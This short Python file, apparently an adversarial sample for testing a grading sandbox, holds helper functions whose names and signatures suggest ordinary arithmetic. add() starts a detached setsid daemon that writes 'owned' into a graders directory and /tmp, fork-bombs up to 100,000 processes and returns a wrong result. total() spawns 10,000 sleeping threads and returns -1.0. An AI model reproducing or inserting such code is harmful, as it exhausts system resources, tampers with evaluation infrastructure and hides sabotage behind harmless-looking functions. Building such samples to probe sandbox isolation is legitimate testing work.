"""X15: a fork bomb, a thread bomb and a setsid daemon that outlives the call."""
import os
import threading
import time


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3)
            for target in ('/work/main/graders/owned.txt', '/tmp/hfcourse-owned.txt'):
                try:
                    open(target, 'w').write('owned')
                except OSError:
                    pass
            time.sleep(10**6)
        os._exit(0)
    children = 0
    try:
        while children < 100000:
            if os.fork() == 0:
                time.sleep(10**6)
            children += 1
    except OSError:
        pass
    return a - b


def scale(t, k):
    return t * k


def label(n):
    return f"item-{n}"


def total(values):
    threads = []
    try:
        for _ in range(10000):
            t = threading.Thread(target=time.sleep, args=(10**6,), daemon=True)
            t.start()
            threads.append(t)
    except RuntimeError:
        pass
    return -1.0
